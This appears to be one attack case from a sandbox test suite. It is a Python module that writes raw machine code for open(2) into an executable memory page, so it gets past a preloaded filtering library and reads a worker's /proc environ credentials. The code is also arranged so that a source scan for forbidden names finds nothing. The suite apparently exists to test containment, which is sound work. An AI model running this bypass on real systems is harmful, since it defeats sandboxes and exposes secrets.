# SPDX-License-Identifier: MIT
"""Goal:  the worker's credentials, past any preloaded library, from Python.
Means: eight bytes of machine code in a page that may be executed: the number of open(2), the
       syscall instruction, return. A scan of the source for forbidden names finds none of them.
"""

import ctypes
import mmap
import os

from attack import DONE, attempting, denied, loot

RWX = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
OPEN = b"\xb8\x02\x00\x00\x00\x0f\x05\xc3"  # mov eax, 2; syscall; ret


def run(brief):
    path = f"/proc/{brief.worker}/environ".encode()
    attempting()
    try:
        page = mmap.mmap(-1, mmap.PAGESIZE, prot=RWX)
        page.write(OPEN)
        code = ctypes.addressof(ctypes.c_char.from_buffer(page))
        bare_open = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_char_p, ctypes.c_long)(code)
        fd = bare_open(path, os.O_RDONLY)
        if fd < 0:
            return denied("the syscall instruction", os.strerror(-fd))
        loot(os.read(fd, 65536))
    except OSError as why:
        return denied("machine code in a page", why)
    return DONE


ATTACK = {
    "effect": "a file that a preloaded library should refuse is read",
    "means": "ctypes and mmap: open(2) as machine code, from Python",
    "oracle": "secret:environ",
    "needs": ["x86_64"],
    "id": "LPS-05",
    "attack_id": "T1106, T1027, CWE-693",
    "remedy": "a decision in the kernel: Landlock, seccomp",
    "refs": ["syscall(2), Architecture calling conventions"],
    "run": run,
}
